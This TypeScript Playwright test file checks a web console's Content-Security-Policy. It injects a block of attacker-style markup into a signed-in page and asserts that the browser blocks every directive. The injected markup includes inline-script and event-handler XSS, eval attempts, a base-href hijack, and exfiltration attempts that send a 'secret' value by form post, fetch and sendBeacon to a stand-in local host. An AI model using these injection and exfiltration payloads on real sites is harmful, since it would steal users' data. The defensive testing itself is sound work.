import { createServer } from "node:http";
import { expect, test } from "../support/test.ts";
import { watchPolicy } from "./watch-policy.ts";

/** What a page of the console holds when an attacker's markup stands in it: each thing by the directive that is to stop it. */
const directives = [
  ...["script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr", "img-src"],
  ...["connect-src", "frame-src", "object-src", "media-src", "font-src", "worker-src", "base-uri", "form-action"],
];

/** The markup, and what a script that is trusted would do for it: `eval` is no way in either. */
const attack = (elsewhere: string, nonce: string) => `
<script>window.ran = "an inline script"</script>
<script src="${elsewhere}/remote.js"></script>
<script nonce="guessed">window.ran = "a script with another nonce"</script>
<style>#canary-of-policy { outline: 9px solid rgb(1, 2, 3) } @font-face { font-family: leak; src: url("${elsewhere}/style-font") }</style>
<p id="canary-of-policy" style="letter-spacing: 77px" onclick="window.ran = 'an inline handler'">canary</p>
<img src="${elsewhere}/pixel.png"><video src="${elsewhere}/video"></video>
<img src="/no-such-picture.png" onerror="window.ran = 'a handler of an error'">
<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>
<base href="${elsewhere}/">
<form action="${elsewhere}/form" method="post"><input name="typed" value="secret"></form>
<script nonce="${nonce}">
  for (const way of [() => eval("window.ran = 'eval'"), () => new Function("window.ran = 'new Function'")(), () => setTimeout("window.ran = 'a text as timer'")])
    try { way(); } catch {}
  fetch("${elsewhere}/fetch").catch(() => {});
  navigator.sendBeacon("${elsewhere}/beacon", "secret");
  new FontFace("leak", "url(${elsewhere}/font)").load().catch(() => {});
  try { new Worker("data:text/javascript,1"); } catch {}
  document.querySelector("#canary-of-policy").click();
  const { letterSpacing, outlineStyle } = getComputedStyle(document.querySelector("#canary-of-policy"));
  window.seen = { letterSpacing, outlineStyle };
  document.forms[document.forms.length - 1].submit();
</script>`;

test("markup of somebody else in a page runs nothing, looks like nothing and asks nobody, and the browser says so", async ({
  page: signedIn,
  context,
  signInAs,
}) => {
  await signInAs("agent");
  await signedIn.goto("/members");
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const elsewhere = `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`;
  // A page of its own: what is blocked stands in its console as errors.
  const page = await context.newPage();
  try {
    const blocked = await watchPolicy(page);
    await page.route("/members", async (route) => {
      const response = await route.fetch();
      const nonce = /'nonce-([^']+)'/.exec(response.headers()["content-security-policy"] ?? "")?.[1] ?? "";
      const body = (await response.text()).replace(/<body[^>]*>/, (tag) => `${tag}${attack(elsewhere, nonce)}`);
      await route.fulfill({ response, body });
    });
    // What is blocked may keep a page from being loaded to the end.
    await page.goto("/members", { waitUntil: "commit" });
    const isBlocked = (directive: string) => blocked.some((text) => text.startsWith(`${directive} `));
    await expect.poll(() => directives.filter((directive) => !isBlocked(directive)), "not blocked").toEqual([]);
    expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined();
    // As it looked before the page came to life, which takes the stranger's markup out.
    expect(await page.evaluate(() => Reflect.get(window, "seen"))).toEqual({
      letterSpacing: "normal",
      outlineStyle: "none",
    });
    expect(asked).toEqual([]);
  } finally {
    await page.close();
    server.close();
  }
});
